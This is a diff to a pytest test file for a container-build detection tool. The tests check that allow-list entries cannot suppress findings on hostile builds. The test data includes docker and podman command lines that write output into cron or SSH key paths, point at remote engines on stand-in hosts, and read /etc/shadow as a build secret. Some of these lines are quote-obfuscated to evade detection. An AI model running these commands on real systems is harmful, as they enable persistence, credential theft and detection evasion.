@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+from datetime import date
 from typing import Any
 
 import pytest
 
 from t1612core import HARDENED, SENTINEL, AllowList, Detector, Kind, Profile
 from t1612core.allowlist.lists import READY
+
+from .lists import BUILD, LIST
 
 # For each list, who it believes: what an intruder borrows.
 WHO: dict[str, dict[str, Any]] = {
@@ -75,6 +78,19 @@ HOSTILE = (
     "docker build -o ~/.ssh /tmp/a",
     "docker build -o type=local,dest=$HOME/.config/autostart /tmp/a",
     "docker buildx bake -f /tmp/a/b.hcl --set '*.output=type=local,dest=/etc/cron.d'",
+    "docker build --metadata-file /etc/cron.d/a /tmp/a",
+    "docker buildx build --iidfile=/root/.ssh/authorized_keys /tmp/a",
+    # Another's engine
+    "docker -H tcp://203.0.113.9:2375 build -t a /tmp/a",
+    "docker --host=tcp://build.evil.example:2375 build --no-cache /tmp/a",
+    "podman --url ssh://core@203.0.113.9/run/podman.sock build /tmp/a",
+    "docker -H unix:///dev/shm/.d/e.sock build /tmp/a",
+    # What a step has no use for
+    "docker buildx build --secret id=a,src=/etc/shadow /tmp/a",
+    "docker build --secret id=a,source=/var/lib/kubelet/config.yaml /tmp/a",
+    "docker buildx build --ssh default=/etc/ssh/ssh_host_ed25519_key /tmp/a",
+    "docker build --cgroup-parent=/ --no-cache /tmp/a",
+    "docker build --cgroup-parent system.slice /tmp/a",
     # A source that is somebody's
     "docker build github.com/evil/x",
     "docker build github.com/evil/x#main:sub",
@@ -99,6 +115,12 @@ CONCEALED = (
     'docker build --out"put" "type=local,\'dest=/etc/cron.d\'" /tmp/a',
     "docker build git''hub.com/evil/x",
     'docker build "git"@git.evil.example:x/y',
+    "docker build --metadata''-file /etc/cron.d/a /tmp/a",
+    'docker "-"H "tc"p://203.0.113.9:2375 build /tmp/a',
+    'docker build --sec"ret" id=a,src=/e"tc/sha"dow /tmp/a',
+    'docker build --cgroup"-parent" / /tmp/a',
+    "docker build -t a /de''v/shm/a",
+    "sh -c 'cd /dev/shm && docker build -t a .'",
     "curl -s --unix-socket /run/docker.sock -X POST localhost/build?t=a --data-binary @a.tar",
     "sh -c 'docker build /tmp/a && docker run \"--privi\"leged a'",
 )
@@ -154,10 +176,55 @@ def test_no_ready_list_applies_to_a_hostile_build(line: str, name: str) -> None:
 
 
 @pytest.mark.parametrize("name", READY)
-@pytest.mark.parametrize("line", HOSTILE)
+@pytest.mark.parametrize("line", [*HOSTILE, *CONCEALED])
 def test_nor_does_it_where_the_published_rule_finds_it(line: str, name: str) -> None:
-    """It has no signal for most of these; the patterns of ``unless`` see them."""
+    """It has no signal for most of these: what a command says is read whichever rule finds it."""
     assert [] == applied(SENTINEL, name, "process", built(line, WHO[name]))
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        '"--privi"leged',
+        '"--net"work=host',
+        '"-o" /etc/cron.d',
+        "--metadata''-file /etc/cron.d/a",
+        "--sec''ret id=a,src=/etc/shadow",
+    ],
+)
+@pytest.mark.parametrize("profile", [SENTINEL, HARDENED], ids=lambda profile: profile.name)
+def test_no_entry_of_anybodys_hides_what_gives_a_build_the_host(
+    options: str, profile: Profile
+) -> None:
+    """Nothing but an author's own ``never_suppress`` gives that up."""
+    detector = Detector(profile, allowlist=AllowList.loads(LIST).on(date(2026, 3, 1)))
+    line = f"docker build --no-cache {options} /tmp/a/"
+    finding = detector.score_process({**BUILD, "ProcessCommandLine": line})
+    harmless = detector.score_process(
+        {**BUILD, "ProcessCommandLine": line.replace(options, "--pull")}
+    )
+
+    assert finding is not None
+    assert not finding.suppressed_by
+    assert finding.tuned is not None
+    assert finding.tuned.barred_by
+    assert harmless is not None
+    assert harmless.suppressed_by
+
+
+def test_an_entry_does_not_apply_where_what_the_event_says_cannot_be_read() -> None:
+    """The published rule reads fewer fields than the signals that nobody may hide."""
+    detector = Detector(SENTINEL, allowlist=AllowList.loads(LIST).on(date(2026, 3, 1)))
+    event = {**BUILD, "ProcessCommandLine": "docker build --no-cache /tmp/a/"}
+
+    finding = detector.score_process(event)
+    assert finding is not None
+    assert finding.suppressed_by
+    finding = detector.score_process({**event, "InitiatingProcessAccountName": 7})
+    assert finding is not None
+    assert not finding.suppressed_by
+    assert finding.tuned is not None
+    assert () == finding.tuned.barred_by
 
 
 @pytest.mark.parametrize("name", READY)
